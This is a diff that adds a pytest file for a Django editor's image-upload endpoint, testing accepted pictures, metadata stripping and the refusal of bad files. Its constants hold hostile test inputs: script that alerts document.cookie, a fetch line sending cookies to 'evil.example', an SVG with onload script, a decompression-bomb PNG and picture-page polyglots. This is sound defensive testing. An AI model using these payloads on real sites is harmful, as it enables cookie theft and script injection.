@@ -1,0 +1,278 @@
+"""Pictures that come in through the editor: with real files, good ones and hostile ones."""
+
+import json
+import struct
+import zlib
+from io import BytesIO
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+from PIL import Image as Pillow
+from pytest_django import Settings
+
+from images.models import Image
+from publishing.roles import Role
+from tests.factories import ImageFactory, picture_bytes
+from tests.roles import account, signed_in
+
+UPLOAD = "/admin/markdownx/upload/"
+
+pytestmark = pytest.mark.django_db
+
+
+def png_of(width: int, height: int) -> bytes:
+    """A PNG of one bit a pixel, all black, made without ever holding its pixels."""
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+        )
+
+    packer = zlib.compressobj(9)
+    line = bytes(1 + -(-width // 8))
+    rows = b"".join([*(packer.compress(line) for _row in range(height)), packer.flush()])
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + b"".join(
+        [chunk(b"IHDR", header), chunk(b"IDAT", rows), chunk(b"IEND", b"")]
+    )
+
+
+def not_a_picture(name: str) -> str:
+    return (
+        f"“{name}” is no JPEG, PNG, WebP, AVIF or GIF picture, or is damaged. Save it as one of "
+        "these."
+    )
+
+
+HTML = b"<!doctype html><title>x</title><script>alert(document.cookie)</script>"
+SCRIPT = b"fetch('//evil.example/' + document.cookie)"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
+BOMB = png_of(12_000, 12_000)
+PNG = picture_bytes(7)
+JPEG = picture_bytes(7, width=640, height=480, format="JPEG")
+
+
+def file(name: str, data: bytes, content_type: str = "image/png") -> SimpleUploadedFile:
+    return SimpleUploadedFile(name, data, content_type)
+
+
+@pytest.fixture
+def critic() -> Client:
+    return signed_in(account(Role.CRITIC))
+
+
+@pytest.fixture
+def stored(settings: Settings) -> Any:
+    """What is in the library: its rows, and the files of the storage."""
+
+    def look() -> tuple[list[str], list[str]]:
+        root = Path(settings.MEDIA_ROOT)
+        files = sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())
+        return sorted(Image.objects.values_list("name", flat=True)), files
+
+    return look
+
+
+class TestAccepted:
+    def test_the_answer_is_what_shows_it(self, critic: Client) -> None:
+        response = critic.post(
+            UPLOAD, {"image": file("Duel at Dawn.PNG", PNG), "alt": "A [duel]", "credit": "Jane"}
+        )
+        assert (response.status_code, response.json()) == (
+            200,
+            {"image_code": "![A \\[duel\\]](images/duel-at-dawn.png)"},
+        )
+        image = Image.objects.get()
+        assert (image.name, image.alt, image.decorative, image.credit) == (
+            "duel-at-dawn.png",
+            "A [duel]",
+            False,
+            "Jane",
+        )
+
+    def test_a_decorative_one_has_no_words(self, critic: Client) -> None:
+        response = critic.post(UPLOAD, {"image": file("duel.png", PNG), "decorative": "on"})
+        assert response.json() == {"image_code": "![](images/duel.png)"}
+        assert Image.objects.get().decorative is True
+
+    def test_it_lies_under_a_random_name_upright_and_without_metadata(self, critic: Client) -> None:
+        exif = Pillow.Exif()
+        exif[0x0112] = 6  # to be turned by 90° to the right
+        exif[0x010E] = "secret"
+        buffer = BytesIO()
+        Pillow.new("RGB", (60, 40), "red").save(buffer, "JPEG", exif=exif)
+        assert b"secret" in buffer.getvalue()
+        critic.post(UPLOAD, {"image": file("who-dies.jpg", buffer.getvalue()), "alt": "A grave"})
+        image = Image.objects.get()
+        folder, _slash, name = image.file.name.partition("/")
+        assert (folder, len(name), name[-4:]) == ("images", 36, ".jpg")
+        with image.file.open() as opened:
+            data = opened.read()
+        assert (b"secret" in data, Pillow.open(BytesIO(data)).size) == (False, (40, 60))
+
+    def test_a_picture_that_is_there_is_shown_and_stays_as_it_is(self, critic: Client) -> None:
+        ImageFactory(name="first.png", data=PNG, alt="First")
+        response = critic.post(UPLOAD, {"image": file("second.png", PNG), "alt": "Second"})
+        assert response.json() == {
+            "image_code": "![Second](images/first.png)",
+            "notice": (
+                "This picture was in the library already, as “first.png”. Its text there is "
+                "unchanged."
+            ),
+        }
+        assert [(image.name, image.alt) for image in Image.objects.all()] == [
+            ("first.png", "First")
+        ]
+
+    def test_a_page_behind_a_picture_stays_behind(self, critic: Client) -> None:
+        response = critic.post(UPLOAD, {"image": file("a.png", PNG + HTML), "alt": "A"})
+        with Image.objects.get().file.open() as opened:
+            assert (response.status_code, b"<script" in opened.read()) == (200, False)
+
+    @pytest.mark.parametrize(
+        ("name", "format"),
+        [
+            ("a.jpg", "JPEG"),
+            ("a.JPEG", "JPEG"),
+            ("a.jfif", "JPEG"),
+            ("a.png", "PNG"),
+            ("a.webp", "WEBP"),
+            ("a.avif", "AVIF"),
+            ("a.gif", "GIF"),
+        ],
+    )
+    def test_each_format_under_its_own_name(self, critic: Client, name: str, format: str) -> None:
+        data = picture_bytes(7, width=64, height=48, format=format)
+        response = critic.post(UPLOAD, {"image": file(name, data), "alt": "A"})
+        assert (response.status_code, Image.objects.count()) == (200, 1)
+
+
+class TestRefused:
+    """Each is a 400 with a sentence, and nothing is stored."""
+
+    @pytest.fixture(autouse=True)
+    def _nothing_changes(self, critic: Client, stored: Any) -> Any:
+        ImageFactory(name="there.png")
+        before = stored()
+        assert (len(before[0]), len(before[1]) > 1) == (1, True)
+        self.critic = critic
+        yield
+        assert stored() == before
+
+    def refusal(self, *files: SimpleUploadedFile, **fields: str) -> str:
+        data = {"image": list(files), "alt": "A duel"} | fields
+        response = self.critic.post(UPLOAD, data)
+        assert response.status_code == 400
+        assert response["Content-Type"] == "text/plain; charset=utf-8"
+        return response.content.decode()
+
+    @pytest.mark.parametrize("data", [HTML, SCRIPT, SVG], ids=["html", "javascript", "svg"])
+    @pytest.mark.parametrize(
+        ("name", "content_type"),
+        [
+            ("a.gif", "image/gif"),
+            ("a.png", "image/png"),
+            ("a.svg", "image/svg+xml"),
+            ("a.html", "text/html"),
+        ],
+    )
+    def test_what_is_no_picture(self, data: bytes, name: str, content_type: str) -> None:
+        assert self.refusal(file(name, data, content_type)) == not_a_picture(name)
+
+    @pytest.mark.parametrize("data", [HTML, SCRIPT, SVG], ids=["html", "javascript", "svg"])
+    def test_what_only_begins_like_a_picture(self, data: bytes) -> None:
+        # A width and a height of 16, and no colours: then the page.
+        start = b"GIF89a\x10\x00\x10\x00\x00\x00\x00"
+        assert self.refusal(file("a.gif", start + data, "image/gif")) == not_a_picture("a.gif")
+
+    def test_144_million_pixels_in_17_kilobytes(self) -> None:
+        assert 15_000 < len(BOMB) < 25_000
+        assert self.refusal(file("bomb.png", BOMB)) == (
+            "“bomb.png” has more than 50 million pixels. "
+            "Make it smaller: a width of 2,560 pixels fills any screen."
+        )
+
+    @pytest.mark.parametrize("kept", [-2_000, -100, -3])
+    def test_one_that_is_cut_short(self, kept: int) -> None:
+        data = JPEG[:kept]
+        assert self.refusal(file("a.jpg", data)) == (
+            "“a.jpg” is damaged or cut short. Export it or copy it again."
+        )
+
+    @pytest.mark.parametrize(
+        ("name", "data", "holds", "ending"),
+        [
+            ("a.jpg", PNG, "PNG", "png"),
+            ("a.png", JPEG, "JPEG", "jpg"),
+            ("a.html", PNG, "PNG", "png"),
+            ("a.png.svg", PNG, "PNG", "png"),
+            ("a", PNG, "PNG", "png"),
+            ("a.webp", picture_bytes(7, format="GIF"), "GIF", "gif"),
+        ],
+    )
+    def test_one_that_is_not_what_its_name_says(
+        self, name: str, data: bytes, holds: str, ending: str
+    ) -> None:
+        assert self.refusal(file(name, data)) == (
+            f"“{name}” holds a {holds} picture. Give it a name that ends in .{ending}."
+        )
+
+    def test_one_of_too_many_bytes(self) -> None:
+        assert self.refusal(file("a.png", PNG + bytes(20 * 2**20))) == (
+            "“a.png” has 21 MB, more than 20. Save it with fewer pixels or stronger compression."
+        )
+
+    def test_an_empty_one(self) -> None:
+        assert self.refusal(file("a.png", b"")) == "The submitted file is empty."
+
+    def test_none(self) -> None:
+        assert self.refusal() == "Choose one picture."
+
+    def test_two(self) -> None:
+        assert self.refusal(file("a.png", PNG), file("b.png", picture_bytes(8))) == (
+            "Choose one picture."
+        )
+
+    def test_one_beside_another_field(self) -> None:
+        response = self.critic.post(
+            UPLOAD, {"image": file("a.png", PNG), "more": file("b.png", PNG), "alt": "A"}
+        )
+        assert (response.status_code, response.content.decode()) == (400, "Choose one picture.")
+
+    def test_one_in_another_field(self) -> None:
+        response = self.critic.post(UPLOAD, {"picture": file("a.png", PNG), "alt": "A"})
+        assert (response.status_code, response.content.decode()) == (400, "Choose one picture.")
+
+    @pytest.mark.parametrize("words", [{"alt": ""}, {"alt": " "}, {"decorative": "on"}])
+    def test_one_that_is_neither_described_nor_decorative_or_both(
+        self, words: dict[str, str]
+    ) -> None:
+        assert self.refusal(file("a.png", PNG), **words) == (
+            "Describe the picture in the alternative text, or mark it as decorative: one of the "
+            "two."
+        )
+
+    def test_one_with_too_many_words(self) -> None:
+        assert self.refusal(file("a.png", PNG), alt="x" * 301) == (
+            "Ensure this value has at most 300 characters (it has 301)."
+        )
+
+    def test_a_get(self) -> None:
+        response = self.critic.get(UPLOAD)
+        assert (response.status_code, response.content.decode()) == (
+            400,
+            "This address takes POST requests only.",
+        )
+
+    def test_one_as_something_other_than_a_file(self) -> None:
+        response = self.critic.post(
+            UPLOAD, json.dumps({"image": "x"}), content_type="application/json"
+        )
+        assert (response.status_code, response.content.decode()) == (400, "Choose one picture.")
+
+    def test_one_of_somebody_who_may_not(self) -> None:
+        response = signed_in(account()).post(UPLOAD, {"image": file("a.png", PNG), "alt": "A"})
+        assert response.status_code == 403
